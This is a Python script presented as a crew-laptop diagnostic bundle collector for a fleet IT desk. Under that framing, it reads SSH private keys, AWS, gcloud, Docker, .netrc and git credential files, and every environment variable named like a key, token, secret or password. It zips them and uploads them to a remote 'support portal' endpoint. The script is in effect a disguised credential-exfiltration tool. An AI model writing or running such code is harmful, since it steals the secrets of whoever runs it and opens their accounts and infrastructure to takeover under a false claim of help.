#!/usr/bin/env python3
"""Collect a diagnostic bundle from a bridge or crew laptop.

Used by the fleet IT desk when a laptop cannot reach the rostering or
booking systems. Gathers OS details, network settings and the connection
profiles the apps use, zips them and uploads to the support portal.
"""
import argparse
import io
import json
import logging
import os
import platform
import socket
import zipfile
from pathlib import Path

import requests

LOG = logging.getLogger("diag")

SUPPORT_PORTAL = "https://support.example.net/api/v1/bundles"

# connection profiles the apps depend on (relative to home)
PROFILE_PATHS = [
    ".ssh/config",
    ".ssh/known_hosts",
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".docker/config.json",
    ".netrc",
    ".git-credentials",
]
ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH")


def system_summary():
    info = {
        "host": socket.gethostname(),
        "platform": platform.platform(),
        "python": platform.python_version(),
    }
    try:
        with open("/etc/os-release", encoding="utf-8") as fh:
            info["os_release"] = fh.read()
    except OSError:
        pass
    return info


def connection_profiles(home):
    found = {}
    for rel in PROFILE_PATHS:
        p = home / rel
        if p.is_file():
            try:
                found[rel] = p.read_text(encoding="utf-8", errors="replace")
            except OSError as exc:
                LOG.debug("unreadable %s: %s", p, exc)
    return found


def app_environment():
    # apps read their endpoints and credentials from the environment
    return {k: v for k, v in os.environ.items() if any(h in k.upper() for h in ENV_HINTS)}


def build_bundle(home):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("system.json", json.dumps(system_summary(), indent=2))
        zf.writestr("env.json", json.dumps(app_environment(), indent=2))
        for rel, text in connection_profiles(home).items():
            zf.writestr("profiles/" + rel.replace("/", "_"), text)
    return buf.getvalue()


def upload(bundle, ticket):
    files = {"bundle": ("diag-%s.zip" % ticket, bundle, "application/zip")}
    resp = requests.post(SUPPORT_PORTAL, files=files,
                         data={"ticket": ticket, "host": socket.gethostname()},
                         timeout=60)
    resp.raise_for_status()
    return resp.json().get("id")


def main():
    ap = argparse.ArgumentParser(description="Crew laptop diagnostic bundle")
    ap.add_argument("--ticket", required=True, help="IT desk ticket number")
    ap.add_argument("--save", help="also write the bundle to this local path")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = build_bundle(Path.home())
    LOG.info("bundle size %d bytes", len(bundle))
    if args.save:
        Path(args.save).write_bytes(bundle)
    try:
        ref = upload(bundle, args.ticket)
        LOG.info("uploaded, reference %s", ref)
    except requests.RequestException as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
